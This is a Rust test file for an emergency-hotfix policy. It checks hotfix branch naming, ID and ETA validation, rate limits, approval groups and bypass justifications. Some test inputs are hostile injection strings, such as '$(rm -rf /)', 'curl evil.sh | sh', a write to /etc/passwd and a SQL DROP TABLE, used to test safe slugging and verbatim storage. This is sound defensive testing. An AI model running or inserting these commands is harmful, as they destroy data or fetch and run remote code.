//! One test per rule of the emergency policy: each fails if its rule is removed.

use jiff::Timestamp;

use super::*;
use crate::config::model::BypassElement;
use crate::emergency::instead::{Instead, PreflightAnswer};
use crate::emergency::model::EmergencyState;
use crate::emergency::test_support::{NOW, at, config, only, past, person, request, sample};
use crate::names::IncidentId;

fn refusal(request: &DeclareRequest) -> Refusal {
    only(declare(&config(), request, &DeclarationHistory::default()).unwrap_err())
}

fn id(text: &str) -> IncidentId {
    IncidentId::parse(text).unwrap()
}

// --- identity ---

#[test]
fn people_are_identified_by_name_or_email_in_any_case() {
    let config = config();
    assert_eq!(identify(&config, "alice"), Some(person("alice")));
    assert_eq!(
        identify(&config, "alice@example.com"),
        Some(person("alice"))
    );
    assert_eq!(identify(&config, " BOB@EXAMPLE.COM "), Some(person("bob")));
    assert_eq!(identify(&config, "mallory"), None);
    assert_eq!(identify(&config, "mallory@example.com"), None);
    assert_eq!(identify(&config, ""), None);
}

// --- branch names ---

#[test]
fn the_branch_is_hotfix_id_and_a_slug_of_the_title() {
    assert_eq!(
        branch_name(&id("INC-2026-05-20-001"), "Fix payment timeout!"),
        "hotfix/INC-2026-05-20-001-fix-payment-timeout"
    );
    assert_eq!(
        branch_name(
            &id("INC-2026-05-20-001"),
            "  --Catalog: nil-deref (tenant header)  "
        ),
        "hotfix/INC-2026-05-20-001-catalog-nil-deref-tenant-header"
    );
}

#[test]
fn a_hostile_title_gives_a_safe_slug() {
    let incident = id("INC-2026-05-20-001");
    let branch = branch_name(
        &incident,
        "$(rm -rf /); `reboot` \"x\" 'y' && echo | cat > /etc/passwd",
    );
    assert_eq!(
        branch,
        "hotfix/INC-2026-05-20-001-rm-rf-reboot-x-y-echo-cat-etc-passwd"
    );
    assert_eq!(
        branch_name(&incident, "$(…); `` \"\" ''"),
        "hotfix/INC-2026-05-20-001-fix"
    );
    assert_eq!(branch_name(&incident, ""), "hotfix/INC-2026-05-20-001-fix");
    assert_eq!(
        branch_name(&incident, "Zahlung fehlgeschlagen ü"),
        "hotfix/INC-2026-05-20-001-zahlung-fehlgeschlagen"
    );
}

#[test]
fn a_long_title_is_cut_at_a_word_boundary_within_80_characters() {
    let incident = id("INC-2026-05-20-001");
    let branch = branch_name(
        &incident,
        "the checkout service times out when the payment provider answers slowly under load",
    );
    assert!(branch.len() <= 80, "{branch}");
    assert_eq!(
        branch,
        "hotfix/INC-2026-05-20-001-the-checkout-service-times-out-when-the-payment"
    );
    let branch = branch_name(&incident, &"a".repeat(200));
    assert_eq!(branch.len(), 80);
    assert!(!branch.ends_with('-'));
}

// --- the id pattern ---

#[test]
fn an_id_outside_the_pattern_is_refused_with_an_example() {
    let mut bad = request();
    bad.id = "INC-42".to_owned();
    let refusal = refusal(&bad);
    assert_eq!(refusal.rule, "emergency.id_pattern");
    assert!(refusal.why.contains("INC-YYYY-MM-DD-NNN"));
    assert!(refusal.instead.to_string().contains("INC-2026-05-20-001"));
}

// --- eligibility, category, pre-flight ---

#[test]
fn a_p2_is_refused_the_normal_pipeline_is_fast_enough() {
    let mut p2 = request();
    p2.severity = "P2".to_owned();
    let refusal = refusal(&p2);
    assert_eq!(refusal.rule, "emergency.severities");
    assert!(refusal.why.contains("the normal pipeline is fast enough"));
    assert_eq!(
        *refusal.instead,
        Instead::UseNormalLane { did_you_mean: None }
    );
    insta::assert_snapshot!(refusal.to_string());
}

#[test]
fn an_unknown_category_is_refused_listing_the_known_ones() {
    let mut bad = request();
    bad.category = "vibes".to_owned();
    let refusal = refusal(&bad);
    assert_eq!(refusal.rule, "emergency.categories");
    assert!(refusal.why.contains("security, incident"));
}

#[test]
fn without_both_preflight_answers_the_flag_and_the_rollback_come_first() {
    let mut bad = request();
    bad.flag_flip = None;
    bad.rollback = Some("   ".to_owned());
    let refusal = refusal(&bad);
    assert_eq!(refusal.rule, "emergency.preflight");
    assert!(refusal.why.contains("--flag-flip, --rollback"));
    assert_eq!(
        *refusal.instead,
        Instead::AnswerPreflight {
            missing: vec![PreflightAnswer::FlagFlip, PreflightAnswer::Rollback]
        }
    );
    insta::assert_snapshot!(refusal.to_string());

    let mut only_rollback_missing = request();
    only_rollback_missing.rollback = None;
    let refusal = self::refusal(&only_rollback_missing);
    assert_eq!(refusal.rule, "emergency.preflight");
    assert!(!refusal.why.contains("--flag-flip"));
    assert_eq!(
        *refusal.instead,
        Instead::AnswerPreflight {
            missing: vec![PreflightAnswer::Rollback]
        }
    );
}

// --- people ---

#[test]
fn an_unknown_author_may_not_declare() {
    let mut bad = request();
    bad.author = person("mallory");
    let refusal = refusal(&bad);
    assert_eq!(refusal.rule, "emergency.identity");
    assert!(refusal.why.contains("mallory"));
}

#[test]
fn the_cleanup_owner_must_be_a_person_by_name_or_email() {
    let mut bad = request();
    bad.cleanup_owner = "nobody@example.com".to_owned();
    let refusal = refusal(&bad);
    assert_eq!(refusal.rule, "emergency.cleanup_owner");
    assert!(
        matches!(&*refusal.instead, Instead::NamePerson { key, .. } if key == "nobody"),
        "{refusal}"
    );

    let mut by_email = request();
    by_email.cleanup_owner = "Alice@example.COM".to_owned();
    let declared = declare(&config(), &by_email, &DeclarationHistory::default()).unwrap();
    assert_eq!(declared.emergency.cleanup_owner, person("alice"));
}

#[test]
fn the_eta_must_be_a_clock_time() {
    for eta in ["24:00", "9:30", "23:60", "noon", "23:30; rm -rf /", "2330"] {
        let mut bad = request();
        bad.eta = Some(eta.to_owned());
        assert_eq!(refusal(&bad).rule, "emergency.eta", "{eta}");
    }
    let mut fine = request();
    fine.eta = Some("00:00".to_owned());
    assert!(declare(&config(), &fine, &DeclarationHistory::default()).is_ok());
    fine.eta = None;
    assert!(declare(&config(), &fine, &DeclarationHistory::default()).is_ok());
}

#[test]
fn an_id_already_declared_is_refused() {
    let history = DeclarationHistory {
        declarations: vec![past(
            "INC-2026-05-20-001",
            "alice",
            "2026-05-20T09:00:00Z",
            false,
        )],
        last_rate_review: None,
        overdue: Vec::new(),
    };
    let refusal = only(declare(&config(), &request(), &history).unwrap_err());
    assert_eq!(refusal.rule, "emergency.unique_id");
}

// --- the record ---

#[test]
fn a_declaration_builds_a_declared_record_with_its_branch_and_timeline() {
    let mut hostile = request();
    hostile.severity = " p0 ".to_owned();
    hostile.title = "pay $(curl evil.sh | sh); `id` \"a\" 'b' ; echo".to_owned();
    hostile.flag_flip = Some("flag `payments.v2` is $(already) off; really".to_owned());
    let declared = declare(&config(), &hostile, &DeclarationHistory::default()).unwrap();
    let emergency = declared.emergency;
    assert!(declared.warnings.is_empty());
    assert_eq!(emergency.id.as_str(), "INC-2026-05-20-001");
    assert_eq!(emergency.state, EmergencyState::Declared);
    assert_eq!(emergency.severity, "P0");
    assert_eq!(emergency.title, hostile.title);
    assert_eq!(
        emergency.flag_flip,
        "flag `payments.v2` is $(already) off; really"
    );
    assert_eq!(
        emergency.branch,
        "hotfix/INC-2026-05-20-001-pay-curl-evil-sh-sh-id-a-b-echo"
    );
    assert_eq!(emergency.cleanup_owner, person("bob"));
    assert_eq!(emergency.eta.as_deref(), Some("23:30"));
    assert_eq!(emergency.declared_at, at(NOW));
    assert_eq!(emergency.timeline.len(), 1);
    assert_eq!(emergency.timeline[0].state, EmergencyState::Declared);
    assert_eq!(emergency.timeline[0].by, "bob");
    assert_eq!(emergency.timeline[0].at, at(NOW));
    assert!(!emergency.standing().approved);
}

// --- rate limits ---

fn busy_week() -> DeclarationHistory {
    DeclarationHistory {
        declarations: vec![
            past("INC-2026-05-14-001", "alice", "2026-05-14T08:00:00Z", false),
            past("INC-2026-05-16-001", "carol", "2026-05-16T08:00:00Z", false),
            past("INC-2026-05-18-001", "dave", "2026-05-18T08:00:00Z", false),
            // Drills never count.
            past("INC-2026-05-19-001", "alice", "2026-05-19T08:00:00Z", true),
            // Older than 7 days.
            past("INC-2026-05-12-001", "alice", "2026-05-12T08:00:00Z", false),
        ],
        last_rate_review: None,
        overdue: Vec::new(),
    }
}

#[test]
fn beyond_the_rate_limit_a_team_review_must_come_first() {
    let refusal = only(declare(&config(), &request(), &busy_week()).unwrap_err());
    assert_eq!(refusal.rule, "emergency.rate_limit");
    assert!(
        refusal
            .why
            .starts_with("3 emergencies were declared in the last 7d")
    );
    assert!(refusal.why.contains("INC-2026-05-14-001 (2026-05-14)"));
    assert!(!refusal.why.contains("INC-2026-05-19-001"));
    assert!(!refusal.why.contains("INC-2026-05-12-001"));
    assert_eq!(
        *refusal.instead,
        Instead::ReviewRate {
            roles: vec!["platform-lead".to_owned(), "eng-manager".to_owned()],
            holders: vec![person("dave"), person("erin"), person("frank")],
        }
    );
    insta::assert_snapshot!(refusal.to_string());
}

#[test]
fn under_the_rate_limit_declaring_is_allowed() {
    let mut history = busy_week();
    history.declarations.remove(0);
    assert!(declare(&config(), &request(), &history).is_ok());
}

#[test]
fn a_recorded_review_resets_the_rate_count() {
    let mut history = busy_week();
    history.last_rate_review = Some(at("2026-05-15T00:00:00Z"));
    assert!(declare(&config(), &request(), &history).is_ok());
    // A review older than the declarations does not help.
    history.last_rate_review = Some(at("2026-05-13T00:00:00Z"));
    let refusal = only(declare(&config(), &request(), &history).unwrap_err());
    assert_eq!(refusal.rule, "emergency.rate_limit");
    assert!(
        refusal
            .why
            .contains("since the last team review (2026-05-13)")
    );
}

#[test]
fn a_declaration_stamped_after_the_deciding_clock_still_counts() {
    // Another declarer's clock ran ahead, or it read its clock later and committed first: its
    // declaration is in the history with a stamp after this decision's moment. Fail closed.
    let mut history = busy_week();
    history.declarations.remove(0);
    history.declarations.push(past(
        "INC-2026-05-20-002",
        "carol",
        "2026-05-20T10:00:00.000001Z",
        false,
    ));
    let refusal = only(declare(&config(), &request(), &history).unwrap_err());
    assert_eq!(refusal.rule, "emergency.rate_limit");
    assert!(
        refusal.why.contains("INC-2026-05-20-002"),
        "{}",
        refusal.why
    );
}

#[test]
fn a_declaration_at_the_instant_of_the_review_counts_after_it() {
    let mut history = busy_week();
    let review = at("2026-05-18T08:00:00Z");
    history.last_rate_review = Some(review);
    history.declarations.push(past(
        "INC-2026-05-19-002",
        "carol",
        "2026-05-19T08:00:00Z",
        false,
    ));
    // INC-2026-05-18-001 was stamped at the review's instant: which came first is unknowable,
    // so it counts against the limit after the review, with the one after it.
    let mut after = history.clone();
    after.declarations.push(past(
        "INC-2026-05-19-003",
        "dave",
        "2026-05-19T09:00:00Z",
        false,
    ));
    let refusal = only(declare(&config(), &request(), &after).unwrap_err());
    assert_eq!(refusal.rule, "emergency.rate_limit");
    assert!(
        refusal.why.contains("INC-2026-05-18-001"),
        "{}",
        refusal.why
    );
    assert!(declare(&config(), &request(), &history).is_ok());
}

#[test]
fn drills_are_never_refused_by_the_rate_limit() {
    let mut drill = request();
    drill.drill = true;
    let declared = declare(&config(), &drill, &busy_week()).unwrap();
    assert!(declared.emergency.drill);
}

#[test]
fn beyond_the_author_limit_a_warning_is_given_and_kept() {
    let history = DeclarationHistory {
        declarations: vec![
            past("INC-2026-02-25-001", "bob", "2026-02-25T08:00:00Z", false),
            past("INC-2026-03-10-001", "bob", "2026-03-10T08:00:00Z", false),
            past("INC-2026-04-01-001", "bob", "2026-04-01T08:00:00Z", false),
            past("INC-2026-04-20-001", "bob", "2026-04-20T08:00:00Z", false),
            past("INC-2026-05-01-001", "bob", "2026-05-01T08:00:00Z", true),
            past("INC-2026-05-02-001", "alice", "2026-05-02T08:00:00Z", false),
        ],
        last_rate_review: None,
        overdue: Vec::new(),
    };
    let declared = declare(&config(), &request(), &history).unwrap();
    assert_eq!(declared.warnings.len(), 1);
    assert!(
        declared.warnings[0]
            .starts_with("bob has declared 4 emergencies in the last 90d (limit 4)")
    );
    assert!(declared.warnings[0].contains("code-yellow"));
    assert_eq!(declared.emergency.warnings, declared.warnings);

    // Three in the window (the first falls out of 90 days) is under the limit.
    let mut later = request();
    later.now = at("2026-05-26T10:00:00Z");
    later.id = "INC-2026-05-26-001".to_owned();
    let declared = declare(&config(), &later, &history).unwrap();
    assert!(declared.warnings.is_empty());
}

// --- rate reviews ---

#[test]
fn only_a_rate_review_role_may_record_the_review() {
    let config = config();
    assert!(review_rate(&config, &person("dave")).is_ok());
    assert!(review_rate(&config, &person("frank")).is_ok());
    let refusal = review_rate(&config, &person("bob")).unwrap_err();
    assert_eq!(refusal.rule, "emergency.rate_review_roles");
    assert!(refusal.why.contains("[\"platform-lead\", \"eng-manager\"]"));
    let refusal = review_rate(&config, &person("mallory")).unwrap_err();
    assert_eq!(refusal.rule, "emergency.identity");
}

// --- approvals ---

fn approval_at() -> Timestamp {
    at("2026-05-20T10:05:00Z")
}

#[test]
fn approvers_fill_each_group_and_complete_the_approval() {
    let config = config();
    let mut emergency = sample();
    assert_eq!(
        missing_groups(&config, &emergency),
        [
            vec!["security-lead".to_owned()],
            vec!["platform-lead".to_owned()]
        ]
    );
    let approval = approve(&config, &emergency, &person("carol"), None, approval_at()).unwrap();
    assert_eq!(
        (approval.group, approval.role.as_str()),
        (0, "security-lead")
    );
    assert!(!apply_approval(&config, &mut emergency, approval).unwrap());
    assert!(!is_fully_approved(&config, &emergency));
    assert_eq!(emergency.state, EmergencyState::Declared);
    // Who could still give the missing one: not carol, who approved, nor the author.
    let missing = missing_with_eligible(&config, &emergency);
    assert_eq!(missing.len(), 1);
    assert_eq!(missing[0].roles, ["platform-lead"]);
    assert_eq!(missing[0].eligible, [person("dave"), person("erin")]);
    // The same approval again, or another for the filled group, does not count twice.
    let stale = emergency.approvals[0].clone();
    let refusal = apply_approval(&config, &mut emergency, stale).unwrap_err();
    assert_eq!(refusal.rule, "emergency.approval.distinct");
    assert_eq!(emergency.approvals.len(), 1);

    let approval = approve(&config, &emergency, &person("dave"), None, approval_at()).unwrap();
    assert_eq!(
        (approval.group, approval.role.as_str()),
        (1, "platform-lead")
    );
    assert!(apply_approval(&config, &mut emergency, approval).unwrap());
    assert!(is_fully_approved(&config, &emergency));
    assert!(missing_groups(&config, &emergency).is_empty());
    assert_eq!(emergency.state, EmergencyState::Approved);
    let last = emergency.timeline.last().unwrap();
    assert_eq!(
        (last.state, last.by.as_str()),
        (EmergencyState::Approved, "dave")
    );
    assert!(emergency.standing().approved);

    let refusal = approve(&config, &emergency, &person("erin"), None, approval_at()).unwrap_err();
    assert_eq!(refusal.rule, "emergency.approval.complete");
}

#[test]
fn the_author_may_not_approve() {
    let mut config = config();
    // Give the author a fitting role, so only the author rule can refuse.
    if let Some(bob) = config.people.get_mut(&person("bob")) {
        bob.roles.push("security-lead".to_owned());
    }
    let refusal = approve(&config, &sample(), &person("bob"), None, approval_at()).unwrap_err();
    assert_eq!(refusal.rule, "emergency.approval.not_author");
    assert!(refusal.config_line.is_some());
    insta::assert_snapshot!(refusal.to_string());
}

#[test]
fn an_approver_needs_a_role_of_a_missing_group() {
    let config = config();
    let refusal = approve(&config, &sample(), &person("alice"), None, approval_at()).unwrap_err();
    assert_eq!(refusal.rule, "emergency.approval.role");
    assert!(refusal.why.contains("[security-lead] and [platform-lead]"));
    assert!(refusal.instead.to_string().contains("carol, erin"));

    // A group already satisfied cannot be filled twice.
    let mut emergency = sample();
    let approval = approve(&config, &emergency, &person("dave"), None, approval_at()).unwrap();
    apply_approval(&config, &mut emergency, approval).unwrap();
    let mut second_platform_lead = config.clone();
    second_platform_lead.people.insert(
        person("gina"),
        crate::config::model::Person {
            roles: vec!["platform-lead".to_owned()],
            email: None,
        },
    );
    let refusal = approve(
        &second_platform_lead,
        &emergency,
        &person("gina"),
        None,
        approval_at(),
    )
    .unwrap_err();
    assert_eq!(refusal.rule, "emergency.approval.role");
}

#[test]
fn one_person_counts_for_one_group_only() {
    let config = config();
    let mut emergency = sample();
    let approval = approve(&config, &emergency, &person("erin"), None, approval_at()).unwrap();
    apply_approval(&config, &mut emergency, approval).unwrap();
    let refusal = approve(&config, &emergency, &person("erin"), None, approval_at()).unwrap_err();
    assert_eq!(refusal.rule, "emergency.approval.distinct");
    assert!(!is_fully_approved(&config, &emergency));
}

#[test]
fn a_person_with_several_roles_takes_the_group_fewest_others_can_fill() {
    let mut config = config();
    // Without dave, erin is the only platform lead left, while carol can still fill the security
    // group: erin must take the platform group, or the approval could never complete.
    config.people.shift_remove(&person("dave"));
    let emergency = sample();
    let approval = approve(&config, &emergency, &person("erin"), None, approval_at()).unwrap();
    assert_eq!(
        (approval.group, approval.role.as_str()),
        (1, "platform-lead")
    );
    // With carol back, the platform group has one other filler (dave) and the security group
    // one (carol): a tie keeps the config's order.
    let config = self::config();
    let approval = approve(&config, &emergency, &person("erin"), None, approval_at()).unwrap();
    assert_eq!(approval.group, 0);
}

#[test]
fn an_explicit_role_must_be_held_and_picks_its_group() {
    let config = config();
    let emergency = sample();
    let approval = approve(
        &config,
        &emergency,
        &person("erin"),
        Some("platform-lead"),
        approval_at(),
    )
    .unwrap();
    assert_eq!(
        (approval.group, approval.role.as_str()),
        (1, "platform-lead")
    );
    let refusal = approve(
        &config,
        &emergency,
        &person("carol"),
        Some("exec"),
        approval_at(),
    )
    .unwrap_err();
    assert_eq!(refusal.rule, "emergency.approval.role");
    assert!(refusal.why.contains("does not hold the role `exec`"));
}

#[test]
fn an_unknown_approver_is_refused() {
    let refusal = approve(
        &config(),
        &sample(),
        &person("mallory"),
        None,
        approval_at(),
    )
    .unwrap_err();
    assert_eq!(refusal.rule, "emergency.identity");
}

#[test]
fn a_category_gone_from_the_config_never_approves() {
    let config = config();
    let mut emergency = sample();
    emergency.category = "removed".to_owned();
    assert!(!is_fully_approved(&config, &emergency));
    assert!(missing_groups(&config, &emergency).is_empty());
    let refusal = approve(&config, &emergency, &person("carol"), None, approval_at()).unwrap_err();
    assert_eq!(refusal.rule, "emergency.categories");
}

// --- bypasses ---

#[test]
fn only_the_categorys_elements_may_be_bypassed() {
    let config = config();
    let mut emergency = sample();
    emergency.category = "incident".to_owned();
    let refusal = bypass(
        &config,
        &emergency,
        BypassElement::Eval,
        "the eval suite takes 40 minutes",
        "full suite on the cleanup change",
        &person("alice"),
        approval_at(),
    )
    .unwrap_err();
    assert_eq!(refusal.rule, "emergency.bypass.scope");
    assert!(refusal.why.contains("may bypass only: canary, window"));
    assert_eq!(
        refusal.config_line,
        config
            .emergency
            .categories
            .get("incident")
            .map(|category| category.source)
    );
    insta::assert_snapshot!(refusal.to_string());
}

#[test]
fn a_bypass_needs_a_specific_reason_and_a_compensation() {
    let config = config();
    let emergency = sample();
    for (reason, compensation) in [
        ("", "full suite on the cleanup change"),
        ("the eval suite takes 40 minutes", "  "),
        ("n/a", "full suite on the cleanup change"),
        ("the eval suite takes 40 minutes", "TBD"),
        ("...", "—"),
    ] {
        let refusal = bypass(
            &config,
            &emergency,
            BypassElement::Eval,
            reason,
            compensation,
            &person("dave"),
            approval_at(),
        )
        .unwrap_err();
        assert_eq!(refusal.rule, "emergency.bypass.justification", "{reason:?}");
    }
}

#[test]
fn a_bypass_keeps_hostile_texts_verbatim() {
    let config = config();
    let reason = "eval takes 40m; $(rm -rf /) `id` \"quoted\" 'single' && exit 1";
    let compensation = "; DROP TABLE bypasses; -- full suite on cleanup";
    let recorded = bypass(
        &config,
        &sample(),
        BypassElement::Eval,
        reason,
        compensation,
        &person("dave"),
        approval_at(),
    )
    .unwrap();
    assert_eq!(recorded.reason, reason);
    assert_eq!(recorded.compensation, compensation);
    assert_eq!(recorded.by, person("dave"));
    assert_eq!(recorded.at, approval_at());
}

#[test]
fn each_element_is_bypassed_once() {
    let config = config();
    let mut emergency = sample();
    let first = bypass(
        &config,
        &emergency,
        BypassElement::Canary,
        "the error rate is 40%",
        "watch the error-rate check for 30m",
        &person("dave"),
        approval_at(),
    )
    .unwrap();
    emergency.bypasses.push(first);
    let refusal = bypass(
        &config,
        &emergency,
        BypassElement::Canary,
        "again",
        "again",
        &person("dave"),
        approval_at(),
    )
    .unwrap_err();
    assert_eq!(refusal.rule, "emergency.bypass.once");
    // Another element is still allowed.
    assert!(
        bypass(
            &config,
            &emergency,
            BypassElement::Window,
            "customers are blocked now",
            "on-call watches the rollout",
            &person("dave"),
            approval_at(),
        )
        .is_ok()
    );
}

#[test]
fn an_unknown_person_may_not_bypass() {
    let refusal = bypass(
        &config(),
        &sample(),
        BypassElement::Eval,
        "the eval suite takes 40 minutes",
        "full suite on the cleanup change",
        &person("mallory"),
        approval_at(),
    )
    .unwrap_err();
    assert_eq!(refusal.rule, "emergency.identity");
}
